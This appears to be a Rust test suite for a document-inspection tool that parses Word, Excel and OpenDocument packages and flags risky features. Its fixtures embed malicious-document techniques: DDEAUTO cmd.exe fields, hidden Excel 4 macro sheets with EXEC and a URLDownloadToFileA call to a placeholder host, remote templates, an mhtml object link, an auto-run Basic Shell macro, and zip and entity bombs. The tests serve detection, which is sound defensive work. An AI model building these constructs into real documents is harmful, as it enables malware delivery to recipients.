//! Packages that tests write: ordinary, harmless, hostile, damaged.

use super::*;
use crate::Budget;
use crate::member::FoundFeature;
use creel_evidence::dissection::{FeatureKind, LinkContext};
use proptest::prelude::*;
use std::io::{Cursor, Write as _};
use zip_writer::ZipWriter;
use zip_writer::write::SimpleFileOptions;

use ::zip as zip_writer;

fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn opened(bytes: &[u8]) -> Opened {
    let opened = open(bytes, &mut Opening { passwords: &[], budget: &mut Budget::default() });
    for found in &opened.members {
        assert_eq!(member(bytes, found.index).as_ref(), Some(&found.bytes), "{:?}", found.name);
    }
    for at in opened.links.iter().map(|link| link.at).chain(opened.features.iter().map(|feature| feature.at))
    {
        let Of::Member(position) = at.of else { panic!("a statement about the whole package") };
        assert!(opened.members[position].bytes.get(at.span.range()).is_some());
    }
    opened
}

/// What stands at a place of a member.
fn stands(opened: &Opened, of: Of, span: Span) -> String {
    let Of::Member(position) = of else { panic!("not in a member") };
    String::from_utf8_lossy(&opened.members[position].bytes[span.range()]).into_owned()
}

fn told(opened: &Opened) -> Vec<(FeatureKind, &str)> {
    opened.features.iter().map(|FoundFeature { kind, detail, .. }| (*kind, detail.as_str())).collect()
}

fn texts(opened: &Opened) -> Vec<String> {
    let shown = opened.members.iter().filter(|member| member.kind == MemberKind::Text);
    shown.map(|member| String::from_utf8(member.bytes.clone()).unwrap()).collect()
}

fn relationship(id: &str, kind: &str, target: &str, external: bool) -> String {
    let mode = if external { " TargetMode=\"External\"" } else { "" };
    format!(
        "<Relationship Id=\"{id}\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\"{mode}/>"
    )
}

fn relationships(list: &[String]) -> Vec<u8> {
    format!("<?xml version=\"1.0\"?><Relationships>{}</Relationships>", list.concat()).into_bytes()
}

const DOCUMENT: &str = r#"<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Your invoice: </w:t></w:r><w:hyperlink r:id="rId1"><w:r><w:t>open it</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"#;

#[test]
fn a_document_shows_its_text_and_its_links_with_their_words() {
    let bytes = package(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", DOCUMENT.as_bytes()),
        (
            "word/_rels/document.xml.rels",
            &relationships(&[relationship("rId1", "hyperlink", "https://pay.example/?a=1&amp;b=2", true)]),
        ),
        ("word/media/image1.png", b"\x89PNG\r\n\x1a\n...."),
        ("docProps/core.xml", b"<cp:coreProperties><dc:creator>Ann Example</dc:creator></cp:coreProperties>"),
    ]);
    let opened = opened(&bytes);
    assert_eq!(texts(&opened), ["Your invoice: open it\n"]);
    assert_eq!(opened.links.len(), 1);
    let link = &opened.links[0];
    assert_eq!((link.raw.as_str(), link.text.as_str()), ("https://pay.example/?a=1&b=2", "open it"));
    assert_eq!(stands(&opened, link.at.of, link.at.span), "https://pay.example/?a=1&amp;b=2");
    assert_eq!(told(&opened), [(FeatureKind::DocumentProperty, "author: Ann Example")]);
    let picture = opened.members.iter().find(|member| member.kind == MemberKind::Picture).unwrap();
    assert_eq!(picture.name.as_deref(), Some("word/media/image1.png"));
    assert_eq!(opened.anomalies, []);
}

#[test]
fn what_is_fetched_from_elsewhere_is_told() {
    let bytes = package(&[
        ("word/document.xml", DOCUMENT.as_bytes()),
        (
            "word/_rels/document.xml.rels",
            &relationships(&[
                relationship("rId1", "image", "http://t.example/p.png?id=7", true),
                relationship(
                    "rId2",
                    "oleObject",
                    "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html",
                    true,
                ),
                relationship("rId3", "image", "media/image1.png", false),
            ]),
        ),
        (
            "word/_rels/settings.xml.rels",
            &relationships(&[relationship("rId1", "attachedTemplate", "http://x.example/t.dotm", true)]),
        ),
        ("word/settings.xml", b"<w:settings/>"),
        (
            "word/_rels/glossary.xml.rels",
            &relationships(&[relationship(
                "rId1",
                "attachedTemplate",
                "file:///C:\\Users\\ann\\Normal.dotm",
                true,
            )]),
        ),
    ]);
    let opened = opened(&bytes);
    let kinds: Vec<FeatureKind> = opened.features.iter().map(|feature| feature.kind).collect();
    use FeatureKind::{DocumentProperty, ExternalResource, RemoteTemplate};
    assert_eq!(kinds, [ExternalResource, ExternalResource, RemoteTemplate, DocumentProperty]);
    let contexts: Vec<LinkContext> = opened.links.iter().map(|link| link.context).collect();
    assert_eq!(contexts, [LinkContext::Image, LinkContext::Resource, LinkContext::Resource]);
}

#[test]
fn fields_that_start_programs_are_told() {
    let document = r#"<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\windows\\cmd.exe "/k x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
        <w:fldSimple w:instr=" HYPERLINK &quot;https://a.example/f&quot; "><w:r><w:t>words</w:t></w:r></w:fldSimple></w:p></w:document>"#;
    let opened = opened(&package(&[("word/document.xml", document.as_bytes())]));
    assert_eq!(told(&opened), [(FeatureKind::Dde, r#"DDEAUTO c:\\windows\\cmd.exe "/k x""#)]);
    assert_eq!(opened.links[0].text, "words");
}

#[test]
fn files_inside_are_files_and_parts_of_the_program_are_not() {
    let class = crate::compound::write([0; 16], &[]);
    let bytes = package(&[
        ("word/document.xml", br#"<w:document><w:p><o:OLEObject ProgID="Package"/><o:OLEObject ProgID="Equation.3"/></w:p></w:document>"#),
        ("word/_rels/document.xml.rels", &relationships(&[relationship("rId1", "aFChunk", "chunk.mht", false)])),
        ("word/embeddings/oleObject1.bin", &class),
        ("word/vbaProject.bin", &class),
        ("word/chunk.mht", b"MIME-Version: 1.0\r\n\r\nx"),
        ("word/printerSettings1.bin", b"\x01\x00\x00\x00"),
        ("hidden.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
    ]);
    let opened = opened(&bytes);
    let files = opened.members.iter().filter(|member| member.kind == MemberKind::File);
    let names: Vec<&str> = files.map(|member| member.name.as_deref().unwrap()).collect();
    assert_eq!(
        names,
        ["word/embeddings/oleObject1.bin", "word/vbaProject.bin", "word/chunk.mht", "hidden.exe"]
    );
    assert_eq!(
        told(&opened),
        [(FeatureKind::EmbeddedObject, "Package"), (FeatureKind::EquationEditor, "Equation.3")]
    );
}

fn workbook() -> Vec<u8> {
    package(&[
        ("xl/workbook.xml", br#"<workbook><sheets><sheet name="Plan" r:id="rId1"/><sheet name="m" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">m!A1</definedName></definedNames></workbook>"#),
        ("xl/_rels/workbook.xml.rels", &relationships(&[
            relationship("rId1", "worksheet", "worksheets/sheet1.xml", false),
            relationship("rId2", "xlMacrosheet", "macrosheets/sheet1.xml", false),
        ])),
        ("xl/sharedStrings.xml", b"<sst><si><t>Enable content</t></si></sst>"),
        ("xl/worksheets/sheet1.xml", br#"<worksheet><sheetData><row><c r="A1" t="s"><v>0</v></c><c r="B1"><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>"#),
        ("xl/macrosheets/sheet1.xml", br#"<xm:macrosheet><c r="A1"><f>EXEC("cmd"&amp;" /c "&amp;CHAR(99))</f></c><c r="A2"><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://x."&amp;"example/a")</f></c></xm:macrosheet>"#),
        ("xl/connections.xml", br#"<connections><connection><webPr url="https://q.example/t"/></connection></connections>"#),
    ])
}

#[test]
fn macro_sheets_are_code_and_sheets_are_text() {
    let opened = opened(&workbook());
    assert_eq!(texts(&opened), ["Enable content\n"]);
    let kinds: Vec<FeatureKind> = opened.features.iter().map(|feature| feature.kind).collect();
    for kind in [
        FeatureKind::HiddenSheet,
        FeatureKind::AutoRun,
        FeatureKind::Dde,
        FeatureKind::Excel4Macro,
        FeatureKind::SuspiciousCall,
        FeatureKind::ExternalData,
    ] {
        assert!(kinds.contains(&kind), "{kind}");
    }
    assert!(told(&opened).contains(&(FeatureKind::Excel4Macro, "sheet \"m\", veryHidden")));
    let raws: Vec<&str> = opened.links.iter().map(|link| link.raw.as_str()).collect();
    assert!(raws.contains(&"https://x.example/a"), "{raws:?}");
    let code = opened.members.iter().find(|member| member.kind == MemberKind::Code).unwrap();
    assert!(code.bytes.starts_with(b"A1 =EXEC("));
}

#[test]
fn an_agenda_and_a_budget_do_nothing() {
    let agenda = package(&[
        ("word/document.xml", DOCUMENT.as_bytes()),
        (
            "word/_rels/document.xml.rels",
            &relationships(&[
                relationship("rId1", "hyperlink", "https://agenda.example/", true),
                relationship("rId2", "styles", "styles.xml", false),
            ]),
        ),
    ]);
    let budget = package(&[
        ("xl/workbook.xml", br#"<workbook><sheets><sheet name="a" r:id="rId1"/><sheet name="lists" state="hidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Print_Area">a!A1</definedName></definedNames></workbook>"#),
        ("xl/worksheets/sheet1.xml", br#"<worksheet><c r="A1"><f>SUM(B1:B9)*IF(C1="a",1,2)</f><v>3</v></c></worksheet>"#),
    ]);
    for bytes in [agenda, budget] {
        assert_eq!(told(&opened(&bytes)), []);
    }
}

#[test]
fn an_opendocument_shows_links_scripts_and_basic() {
    let bytes = package(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", br#"<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/><text:p>See <text:a xlink:href="https://a.example/">this</text:a></text:p><draw:image xlink:href="http://t.example/p.png"/></office:document-content>"#),
        ("meta.xml", br#"<office:document-meta><meta:generator>Writer</meta:generator><meta:template xlink:href="http://x.example/t.ott"/></office:document-meta>"#),
        ("Basic/Standard/M.xml", b"<script:module>Sub Main\nShell(&quot;calc&quot;)\nEnd Sub</script:module>"),
        ("Pictures/a.png", b"\x89PNG\r\n\x1a\n"),
    ]);
    let opened = opened(&bytes);
    assert_eq!(texts(&opened), ["See this\n"]);
    let kinds: Vec<FeatureKind> = opened.features.iter().map(|feature| feature.kind).collect();
    for kind in [
        FeatureKind::AutoRun,
        FeatureKind::ExternalResource,
        FeatureKind::RemoteTemplate,
        FeatureKind::Macro,
        FeatureKind::SuspiciousCall,
    ] {
        assert!(kinds.contains(&kind), "{kind}");
    }
    assert_eq!(opened.links.len(), 3);
}

#[test]
fn parts_in_other_encodings_are_read_and_their_places_count_in_utf8() {
    let wide: Vec<u8> = "\u{feff}<Relationships><Relationship Id=\"rId1\" Type=\"x/hyperlink\" Target=\"https://w.example/\" TargetMode=\"External\"/></Relationships>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let opened = opened(&package(&[
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", &wide),
    ]));
    assert_eq!(stands(&opened, opened.links[0].at.of, opened.links[0].at.span), "https://w.example/");
    assert_eq!(opened.links[0].text, "open it");
}

#[test]
fn bombs_end_at_a_limit() {
    // A package at a thousand to one.
    let sheet = [b"<worksheet>".as_slice(), b" ".repeat(32 << 20).as_slice()].concat();
    let bomb = package(&[("xl/worksheets/sheet1.xml", &sheet)]);
    assert!(sheet.len() / bomb.len() > 200);
    let read = open(&bomb, &mut Opening { passwords: &[], budget: &mut Budget::default() });
    assert_eq!(read.anomalies, [(AnomalyKind::LimitReached, "archive-size".to_owned())]);
    // A hundred thousand relationships.
    let list: Vec<String> = (0..100_000)
        .map(|n| relationship(&format!("r{n}"), "hyperlink", &format!("https://a.example/{n}"), true))
        .collect();
    let noise: Vec<u8> = (0..200_000u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    let many =
        package(&[("word/_rels/document.xml.rels", &relationships(&list)), ("word/media/a.png", &noise)]);
    let read = open(&many, &mut Opening { passwords: &[], budget: &mut Budget::default() });
    assert_eq!(read.anomalies, [(AnomalyKind::LimitReached, "relationships".to_owned())]);
    // Entities of entities, and elements without end.
    let laughs = format!(
        "<!DOCTYPE l [<!ENTITY a '{}'>]><w:document>{}&a;",
        "b".repeat(50_000),
        "<w:p><w:r><w:t>".repeat(50_000)
    );
    let read = opened(&package(&[("word/document.xml", laughs.as_bytes())]));
    assert!(texts(&read).iter().all(|text| text.len() < 1_000));
}

#[test]
fn relationships_in_a_circle_lead_nowhere() {
    let circle = relationships(&[
        relationship("rId1", "oleObject", "document.xml", false),
        relationship("rId2", "aFChunk", "_rels/document.xml.rels", false),
    ]);
    let opened = opened(&package(&[
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", &circle),
    ]));
    assert_eq!(opened.links, []);
}

#[test]
fn a_package_cut_anywhere_is_read_as_far_as_it_goes() {
    let whole = workbook();
    for cut in (0..whole.len()).step_by(7) {
        let _ = opened(&whole[..cut]);
    }
}

proptest! {
    #[test]
    fn any_part_is_read(part in "[<>/a-z:=\"'& ]{0,80}", name in "(word/document|xl/workbook|content|_rels/a)\\.(xml|rels|bin)") {
        for root in ["w:document", "worksheet", "workbook", "Relationships", "office:document-content", "connections"] {
            let _ = opened(&package(&[(&name, format!("<{root}>{part}").as_bytes())]));
        }
    }
}
